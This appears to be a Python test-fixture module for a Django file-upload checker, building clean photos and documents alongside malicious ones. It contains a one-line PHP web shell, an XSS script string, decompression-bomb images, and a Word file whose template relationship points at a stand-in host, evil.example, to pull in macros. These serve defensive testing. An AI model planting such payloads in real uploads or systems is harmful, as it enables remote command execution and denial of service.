"""Photos and papers: honest ones, and those that are not what they say."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

from django.core.files.base import ContentFile
from PIL import Image, PngImagePlugin

SCRIPT = b"<html><script>alert(1)</script></html>"
PHP = b"<?php system($_GET['c']); ?>"


def upload(name: str, data: bytes) -> ContentFile[bytes]:
    """A file as a form hands it over."""
    return ContentFile(data, name=name)


def photo(
    kind: str = "JPEG", size: tuple[int, int] = (80, 60), mode: str = "RGB", **options: object
) -> bytes:
    """A photo: red on the left, blue on the right."""
    image = Image.new(mode, size, "blue")
    image.paste("red", (0, 0, size[0] // 2, size[1]))
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def photo_with_place() -> bytes:
    """A photo that knows where and with what it was taken, lying on its side."""
    exif = Image.Exif()
    exif[0x010F] = "SecretPhone"
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (36.0, 3.0, 40.0)
    exif[0x9286] = "canary-comment"
    return photo(exif=exif, comment=b"canary-comment", icc_profile=b"canary-profile")


def png_with_text() -> bytes:
    """A PNG with words in it."""
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", "canary-author")
    text.add_itxt("XML:com.adobe.xmp", "canary-xmp")
    return photo("PNG", pnginfo=text)


def huge_png(width: int = 60_000, height: int = 60_000) -> bytes:
    """A PNG of a few bytes that says it has billions of pixels."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        (chunk(b"IHDR", head), chunk(b"IDAT", zlib.compress(bytes(1000))), chunk(b"IEND", b""))
    )


def huge_jpeg() -> bytes:
    """A JPEG whose frame says 65,000 by 65,000."""
    data = bytearray(photo())
    frame = data.find(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", 65_000, 65_000)
    return bytes(data)


def text_bomb_png() -> bytes:
    """A PNG with a compressed text of 200 MB."""
    data = photo("PNG")
    body = b"bomb\0\0" + zlib.compress(bytes(200_000_000))
    bomb = struct.pack(">I", len(body)) + b"zTXt" + body
    bomb += struct.pack(">I", zlib.crc32(b"zTXt" + body))
    return data[:33] + bomb + data[33:]


def archive(parts: Mapping[str, bytes], *, tail: bytes = b"") -> bytes:
    """A zip of these parts, with something behind it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue() + tail


def docx(
    text: str = "第一支部会议记录", *, extra: Mapping[str, bytes] | None = None, tail: bytes = b""
) -> bytes:
    """A Word file of one line for each line of text."""
    lines = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in text.split("\n"))
    parts = {
        "[Content_Types].xml": b'<Types><Override PartName="/word/document.xml"'
        b' ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.'
        b'main+xml"/></Types>',
        "_rels/.rels": b'<?xml version="1.0"?><Relationships></Relationships>',
        "word/document.xml": f"<w:document><w:body>{lines}</w:body></w:document>".encode(),
        "word/_rels/document.xml.rels": b"<Relationships><Relationship Id='r1'"
        b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"'
        b' Target="https://www.12371.cn/" TargetMode="External"/></Relationships>',
    }
    return archive(parts | dict(extra or {}), tail=tail)


def remote_template() -> bytes:
    """A Word file that fetches its template, macros and all, from elsewhere."""
    return docx(
        extra={
            "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://'
            b'schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
            b' Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
        }
    )


def pdf(*objects: bytes, tail: bytes = b"") -> bytes:
    """A PDF of a blank page, with more objects."""
    body = b"".join(
        (
            b"%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n",
            b"2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n",
            b"3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>> endobj\n",
            *objects,
        )
    )
    return body + b"trailer <</Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(body) + tail


def stream(content: bytes, kind: bytes = b"") -> bytes:
    """A compressed stream object of a PDF."""
    packed = zlib.compress(content)
    return b"9 0 obj <<%s/Length %d/Filter/FlateDecode>> stream\n%s\nendstream endobj\n" % (
        kind,
        len(packed),
        packed,
    )
